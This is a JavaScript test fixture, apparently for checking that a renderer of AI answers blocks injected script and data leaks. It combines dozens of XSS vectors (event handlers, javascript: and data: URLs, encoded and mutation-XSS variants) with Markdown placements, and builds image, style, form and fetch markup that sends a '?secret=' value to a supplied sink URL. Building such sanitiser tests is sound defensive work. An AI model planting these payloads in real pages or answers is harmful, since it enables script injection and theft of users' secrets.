// Attacks in an answer: running a script, or sending data away. They are combined systematically, so that every syntax is covered.

/** Sets a mark in the page if it ever runs, from a frame too. */
const run = "(globalThis.parent??globalThis).ran=(globalThis.ran??0)+1";

/** Markup that runs a script by itself, or on interaction. */
const markup = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//SINK/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script\n>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror="${run}" style="display:none">`,
  `<img src=\`x\` onerror=\n${run}\n>`,
  `<IMG SRC=x OnErRoR='${run}'>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<x onpointerrawupdate=${run} onclick=${run}>x</x>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="  java\tscript:${run}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `"><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
];

/** The places in Markdown where it can be. */
const places = [
  (text) => text,
  (text) => `- item ${text}`,
  (text) => `> quoted ${text}`,
  (text) => `# heading ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("|", "\\|").replaceAll("\n", " ")} | c |`,
  (text) => `**bold ${text}** and ~~gone ${text}~~`,
  (text) => `[link ${text}](https://ok.example/)`,
  (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`,
];

/** URLs that run a script when a user follows them. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://ok.example/%0a${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `%6Aavascript:${run}`,
  `java%0ascript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://ok.example/x`,
  `filesystem:https://ok.example/x`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `file:///etc/passwd`,
];

/** Ways to write a link. */
const links = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address, n) => `[x][r${n}]\n\n[r${n}]: ${address}`,
  (address) => `<${address}>`,
  (address, n) => `note[^f${n}]\n\n[^f${n}]: ${address}`,
];

/** Scripts that must not run. */
export const scripts = [
  ...places.flatMap((place) => markup.map(place)),
  ...links.flatMap((link, at) => addresses.map((address, n) => link(address, at * 100 + n))),
];

/** Ways to make a page send a request by itself, with a secret in the URL. */
const leaks = [
  (to) => `![x](${to})`,
  (to) => `![x](<${to}> "title")`,
  (to) => `[![x](${to})](https://ok.example/)`,
  (to, n) => `![x][l${n}]\n\n[l${n}]: ${to}`,
  (to, n) => `![l${n}]\n\n[l${n}]: <${to}> "title"`,
  (to, n) => `note[^l${n}]\n\n[^l${n}]: ![x](${to})`,
  (to) => `| ![x](${to}) |\n|---|\n| ![y](${to}) |`,
  (to) => `- ![x](${to})\n  > ![y](${to})`,
  (to) => `# ![x](${to})`,
  (to) => `<img src="${to}">`,
  (to) => `<img srcset="${to} 1x, ${to} 2x">`,
  (to) => `<picture><source srcset="${to}"><img src="${to}"></picture>`,
  (to) => `<video poster="${to}" src="${to}" autoplay></video>`,
  (to) => `<audio src="${to}" autoplay preload=auto></audio>`,
  (to) => `<video><track src="${to}" default></video>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<input type=image src="${to}">`,
  (to) => `<link rel=prefetch href="${to}"><link rel=preload as=image href="${to}">`,
  (to) => `<link rel=stylesheet href="${to}"><link rel=dns-prefetch href="${to}">`,
  (to) => `<style>@import "${to}"; body { background: url(${to}) }</style>`,
  (to) => `<style>@font-face { font-family: x; src: url(${to}) } * { font-family: x }</style>`,
  (to) => `<div style="background-image:url('${to}')">x</div>`,
  (to) => `<table background="${to}"><tr><td>x</td></tr></table>`,
  (to) => `<svg><image href="${to}" width=9 height=9 /></svg>`,
  (to) => `<svg><use href="${to}#x"/></svg>`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<form action="${to}" method=post><input name=a value=secret autofocus></form>`,
  (to) => `<script>fetch("${to}")</script>`,
  (to) => `<a href="https://ok.example/" ping="${to}">x</a>`,
  (to) => `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/></svg>)`,
  (to) => `$\\includegraphics{${to}}$ and {{< figure src="${to}" >}}`,
];

/** Leaks to this URL, with and without a scheme. */
export function leaksTo(sink) {
  const full = leaks.map((leak, n) => leak(`${sink}/leak?secret=full-${n}`, n));
  const bare = leaks.map((leak, n) => leak(`${sink.replace(/^http:/, "")}/leak?secret=bare-${n}`, n + 100));
  return [...full, ...bare];
}
